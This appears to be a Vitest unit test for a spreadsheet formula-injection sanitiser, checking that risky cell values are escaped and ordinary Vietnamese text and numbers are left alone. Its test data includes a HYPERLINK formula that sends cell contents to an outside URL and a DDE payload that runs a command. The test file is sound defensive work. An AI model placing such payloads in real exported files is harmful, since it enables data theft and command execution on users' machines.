import { describe, expect, it } from "vitest";
import { safeCell, safeValue, unsafeCell } from "./safeCells.ts";

describe("safeCell", () => {
  it("neutralises text a spreadsheet would run as a formula", () => {
    for (const raw of [
      '=HYPERLINK("http://x/?a="&B2,"Xem")',
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
    ]) {
      expect(safeCell(raw)).toBe(`'${raw}`);
      expect(unsafeCell(safeCell(raw))).toBe(raw);
    }
  });

  it("leaves ordinary text, and numbers, untouched", () => {
    for (const raw of ["Trường Tiểu học Bình Lư", "", " =không ở đầu", "100%", "'trích dẫn", "a=b"]) {
      expect(safeCell(raw)).toBe(raw);
      expect(unsafeCell(raw)).toBe(raw);
    }
    expect(safeValue(-5)).toBe(-5);
    expect(safeValue(null)).toBe(null);
    expect(safeValue("-5")).toBe("'-5");
  });
});
